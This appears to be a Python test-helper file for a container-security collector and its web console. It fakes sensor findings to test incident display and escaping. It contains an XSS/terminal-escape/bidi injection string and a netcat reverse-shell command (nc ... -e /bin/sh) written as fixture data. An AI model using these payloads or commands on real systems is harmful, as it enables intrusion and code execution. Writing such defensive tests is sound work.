"""Shared helpers of the console tests (integration and browser tiers): a live collector with its
web console, and a sensor link in-process whose responder answers container actions (the seam:
everything from the console to the sensor link is real; only the container runtime is fake)."""

from __future__ import annotations

import time
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Iterator

from bench.workloads import deviation
from collector.auth import AuthConfig, TokenStore
from collector.server import CollectorServer, create_server
from collector.store import SqlStore
from collector.webserver import WebServer, start_web
from sensor.agent.link import CollectorLink, LinkCallbacks, LinkConfig
from sensor.events import Finding
from sensor.response import ActionResult
from sensor.spool import Spool
from tests.waiting import wait_for

# What an attacker controls in a container, through the whole path: a terminal escape that would
# recolour (or erase) a line, markup that would run as script, a bidi override that reverses text.
HOSTILE = "\x1b[31mred\x1b[0m<script>window.pwned=1</script><img src=x onerror=alert(1)>\u202egnp.exe"
ROOT = "/usr/sbin/nginx"


class FakeResponder:
    """The sensor's container actions, answered without a runtime; records what it was asked."""

    def __init__(self) -> None:
        self.done: list[str] = []

    def act(self, action: str, container_id: str, cgroup_path: str = "", pid: int = 0) -> ActionResult:
        self.done.append(f"{action} {container_id}")
        return ActionResult(action, container_id, True, "", 3.2, "fake")


def attack(t0_ns: int) -> list[Finding]:
    """A reverse shell in container web-0 under nginx: four findings of one process tree."""
    base = deviation("new_binary", t0_ns, i=0).pop()
    ev = base.replace(ancestry=("/bin/sh", ROOT), pexe="/bin/sh")
    shell = ev.replace(exe="/bin/sh", args=("sh", "-c", HOSTILE), ancestry=(ROOT,), pid=4000)
    nc = ev.replace(exe="/usr/bin/nc", args=("nc", "10.0.0.9", "4444", "-e", "/bin/sh"), pid=4001)
    return [
        Finding("rule", "Shell Spawned By Web Server", "WARNING", f"shell by nginx: {HOSTILE}", shell,
                time_ns=t0_ns, source="rule", tags=("T1059",)),
        Finding("new_process", "New Process", "NOTICE", "new process /usr/bin/nc", nc, time_ns=t0_ns + 1000,
                explanation={"expected": ["/usr/sbin/nginx"], "seen": "/usr/bin/nc", "learned_s": 600}),
        Finding("rule", "Reverse Shell", "CRITICAL", "nc -e /bin/sh", nc.replace(kind="connect", daddr="10.0.0.9",
                dport=4444), time_ns=t0_ns + 2000, source="rule", tags=("T1059.004", "mitre_execution"),
                action="pause-container"),
        Finding("new_outbound", "New Outbound", "NOTICE", "new outbound 10.0.0.9:4444",
                nc.replace(kind="connect", daddr="10.0.0.9", dport=4444), time_ns=t0_ns + 3000,
                explanation={"expected": ["10.0.0.1:53"], "seen": "10.0.0.9:4444"}),
    ]


@dataclass
class Stack:
    url: str
    tokens: dict[str, str]
    store: SqlStore
    server: CollectorServer
    web: WebServer
    responder: FakeResponder
    container_id: str


@contextmanager
def console_stack(tmp_path: Path) -> Iterator[Stack]:
    """A collector on port 0 with its console on port 0, a token per role, and a sensor that
    reported :func:`attack` (one incident) and answers container actions."""
    tokens = TokenStore(tmp_path / "tokens")
    toks = {r: tokens.add(r, r) for r in ("viewer", "responder", "admin")}
    toks["sensor"] = tokens.add("sensor-1", "sensor")  # a sensor token speaks for its own id only
    store = SqlStore.open(str(tmp_path / "c.db"))
    auth = AuthConfig(tokens)
    server, port = create_server("127.0.0.1:0", store, auth)
    web = start_web("127.0.0.1:0", server.hub, server.incidents, auth)
    findings = attack(time.time_ns())
    cid = findings[0].event.container_id
    responder = FakeResponder()
    link = CollectorLink(LinkConfig(f"127.0.0.1:{port}", sensor_id="sensor-1", token=toks["sensor"],
                                    heartbeat_s=0.1),
                         Spool(tmp_path / "spool"), responder,  # type: ignore[arg-type]
                         LinkCallbacks(containers=lambda: [cid])).start()
    try:
        link.submit(findings)
        wait_for(lambda: [i.count for i in server.incidents.list_page().rows] == [4])
        wait_for(lambda: bool(server.hub.sessions))
        yield Stack(f"http://127.0.0.1:{web.port}", toks, store, server, web, responder, cid)
    finally:
        link.close()
        web.stop()
        server.stop(0)
        store.close()
